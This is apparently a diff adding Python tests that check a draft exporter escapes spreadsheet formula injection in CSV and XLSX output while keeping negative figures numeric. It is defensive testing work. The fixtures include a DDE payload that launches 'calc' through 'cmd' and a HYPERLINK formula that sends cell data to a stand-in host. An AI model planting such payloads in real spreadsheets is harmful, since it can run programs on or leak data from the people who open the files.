@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 from pathlib import Path
@@ -20,6 +21,7 @@ from assistant.drafts import (
     write_json,
     write_xlsx,
 )
+from assistant.drafts.formulas import neutralise_formula, restore_formula, starts_like_formula
 from assistant.drafts.table import COLUMNS
 from assistant.errors import InvalidInputError
 from tests.validator_fixtures import HPR_SIX, draft, hpr_line, proximity_draft
@@ -165,6 +167,78 @@ def test_csv_round_trip_keeps_figures(tmp_path: Path) -> None:
     assert raw.startswith(b"\xef\xbb\xbf")
     back = Draft.model_validate(read_draft_file(tmp_path / "b.csv")[0].data)
     assert back == original
+
+
+def _formula_draft() -> Draft:
+    tree = proximity_draft()
+    tree["indicateurs"][0] |= {
+        "valeur_initiale": -5,
+        "justification": '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquer")',
+        "commentaire": "-2+3+cmd|' /C calc'!A0",
+    }
+    tree["indicateurs"][1] |= {"valeur_initiale": -12.5, "justification": "@SUM(A1:A9)"}
+    tree["indicateurs"][2] |= {"valeur_initiale": "-3", "justification": "'=déjà marqué"}
+    return Draft.model_validate(tree)
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle, delimiter=";"))
+
+
+def test_csv_neutralises_formula_like_text_and_keeps_negative_numbers(tmp_path: Path) -> None:
+    original = _formula_draft()
+    write_csv(original, tmp_path / "b.csv")
+    first, second, third = _csv_rows(tmp_path / "b.csv")[:3]
+    assert first["justification"] == '\'=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquer")'
+    assert first["commentaire"] == "'-2+3+cmd|' /C calc'!A0"
+    assert second["justification"] == "'@SUM(A1:A9)"
+    assert third["justification"] == "''=déjà marqué"
+    # Negative figures are numbers for the spreadsheet and for the reader, not text.
+    assert (first["valeur_initiale"], second["valeur_initiale"]) == ("-5", "-12.5")
+    assert third["valeur_initiale"] == "-3"
+    # Read back, the apostrophes are gone and the figures are numbers (even "-3", written as text).
+    back = Draft.model_validate(read_draft_file(tmp_path / "b.csv")[0].data)
+    for field in ("justification", "commentaire"):
+        assert [getattr(i, field) for i in back.indicateurs] == [
+            getattr(i, field) for i in original.indicateurs
+        ]
+    assert [item.valeur_initiale for item in back.indicateurs[:3]] == [-5, -12.5, -3]
+
+
+def test_xlsx_formula_like_text_is_a_quoted_string_cell(tmp_path: Path) -> None:
+    original = _formula_draft()
+    write_xlsx(original, tmp_path / "b.xlsx")
+    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx")["indicateurs"]
+    justification = COLUMNS.index("justification") + 1
+    value = COLUMNS.index("valeur_initiale") + 1
+    for row in (2, 3):
+        cell = sheet.cell(row=row, column=justification)
+        assert (cell.data_type, cell.quotePrefix) == ("s", True)
+        assert str(cell.value).startswith(("=HYPERLINK", "@SUM"))
+    assert [sheet.cell(row=row, column=value).value for row in (2, 3)] == [-5, -12.5]
+    assert Draft.model_validate(read_draft_file(tmp_path / "b.xlsx")[0].data) == original
+
+
+@pytest.mark.parametrize(
+    ("text", "formula"),
+    [
+        pytest.param("=1+1", True, id="equals"),
+        pytest.param("+33 6 12", True, id="plus-text"),
+        pytest.param("-2+3+cmd|' /C calc'!A0", True, id="dde"),
+        pytest.param("@SUM(A1)", True, id="at"),
+        pytest.param("\t=1+1", True, id="tab"),
+        pytest.param("-5", False, id="negative-int"),
+        pytest.param("-1 200,5", False, id="negative-french"),
+        pytest.param("+3.2", False, id="signed-float"),
+        pytest.param("Taux 1+1", False, id="plain-text"),
+    ],
+)
+def test_formula_like_text_is_recognised(text: str, formula: bool) -> None:
+    assert starts_like_formula(text) is formula
+    neutral = neutralise_formula(text)
+    assert (neutral != text) is formula
+    assert restore_formula(str(neutral)) == text
 
 
 # --- CSV and XLSX reading ----------------------------------------------------------------
